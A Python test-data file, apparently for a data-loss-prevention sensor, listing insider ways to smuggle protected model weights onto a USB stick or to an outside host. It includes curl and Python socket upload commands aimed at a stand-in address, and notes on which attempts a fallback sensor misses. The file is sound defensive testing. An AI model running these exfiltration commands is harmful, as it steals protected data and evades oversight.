# SPDX-License-Identifier: Apache-2.0
"""What an insider tries, and what honest work looks like, as data. Verdicts are observed, never assumed.

Commands run under `bash -c` with: MODEL the protected model, PLAIN an unclassified file, GGUF a conversion that was
made before the model was registered, ROWS half of a registered data set in another notation, OTHER_ROWS one that nobody
registered, WORK a scratch folder on disk, STICK the stick, STRANGER and APPROVED the
addresses outside, CA the receiver's certificate. `prepare` may produce derived files; only `command` is judged.
"""
from dataclasses import dataclass, replace

SEND = ("/usr/bin/python3 -c 'import socket,sys; s=socket.create_connection((sys.argv[1],9000)); "
        "s.sendall(open(sys.argv[2],\"rb\").read()); s.close()'")
TRAIN = ("/usr/bin/python3 -c 'import socket,sys; w=open(sys.argv[2],\"rb\").read(); assert len(w) > 1<<20; "
         "s=socket.create_connection((sys.argv[1],9000)); [s.sendall(bytes(1024)) for _ in range(100)]; s.close()'")
PIPED = ("/usr/bin/python3 -c 'import socket,sys; b=sys.stdin.buffer.read(); "
         "s=socket.create_connection((sys.argv[1],9000)); s.sendall(b); s.close()'")
UPLOAD = "curl -sS --max-time 60 --cacert $CA -T"


@dataclass(frozen=True)
class Attempt:
    name: str
    sink: str              # "removable" or "network"
    command: str
    prepare: str = ":"
    names: int = 0         # empty names that stay on the stick when the command is refused
    missed: str = ""       # why the fallback sensor does not stop it; empty: it does
    leftover: int = 0      # bytes that the refused command writes to a stick it had open before; none of the file's
    only: str = ""         # a sensor; with others it is left out

    def names_with(self, sensor):
        """The fallback holds an open after the kernel has made the name."""
        return 1 if sensor == "fallback" else self.names

    def bytes_with(self, sensor):
        """What a refusal may leave on a stick."""
        return self.leftover if sensor == "fallback" else 0

    def expected_of(self, sensor):
        return "allow" if sensor == "fallback" and self.missed else "block"


# {file} is $MODEL for the insider and $PLAIN for the control, so that both walk the same ways.
WAYS = [
    Attempt("cp", "removable", "cp {file} $STICK/"),
    Attempt("mv", "removable", "mv $WORK/moved.bin $STICK/", "cp {file} $WORK/moved.bin"),
    Attempt("dd", "removable", "dd if={file} of=$STICK/dd.bin bs=256K status=none"),
    Attempt("rsync", "removable", "rsync {file} $STICK/",
            missed="one rsync reads, another writes, and it does not follow what passes between them"),
    # The shell, which read nothing, makes the name before tar starts; not one byte follows. The fallback cannot stop tar
    # from writing, and so does not give it the file: tar ends an archive of nothing.
    Attempt("tar c > stick", "removable", "tar cf - -C $(dirname {file}) $(basename {file}) > $STICK/backup.tar",
            names=1, leftover=10240),
    Attempt("renamed copy", "removable", "cp $WORK/holiday.jpg $STICK/", "cp {file} $WORK/holiday.jpg"),
    Attempt("gzip'd copy", "removable", "cp $WORK/notes.gz $STICK/", "gzip -1 -c {file} > $WORK/notes.gz"),
    Attempt("split piece", "removable", "cp $WORK/part.ab $STICK/", "split -b 1M {file} $WORK/part."),
    Attempt("curl upload over TLS", "network", UPLOAD + " {file} https://$STRANGER:9443/upload"),
    Attempt("Python socket upload", "network", SEND + " $STRANGER {file}"),
]


def with_file(way, file, **changes):
    return replace(way, command=way.command.replace("{file}", file), prepare=way.prepare.replace("{file}", file),
                   **changes)


INSIDER = [with_file(way, "$MODEL") for way in WAYS] + [
    Attempt("gzip'd copy, uploaded over TLS", "network", UPLOAD + " $WORK/notes.gz https://$STRANGER:9443/upload",
            "gzip -1 -c $MODEL > $WORK/notes.gz"),
    Attempt("cat model | Python socket upload", "network", "cat $MODEL | " + PIPED + " $STRANGER", only="fallback",
            missed="it does not follow what passes through a pipe"),
    Attempt("GGUF conversion made before registration", "removable", "cp $GGUF $STICK/"),
    Attempt("half of a data set's rows, as CSV, made before registration", "removable", "cp $ROWS $STICK/"),
]

HONEST = [with_file(way, "$PLAIN", name="unclassified: " + way.name, missed="") for way in WAYS] + [
    Attempt("rows of another data set", "removable", "cp $OTHER_ROWS $STICK/"),
    Attempt("training: reads the weights, sends 100 KiB of metrics to an approved place", "network",
            TRAIN + " $APPROVED $MODEL"),
]
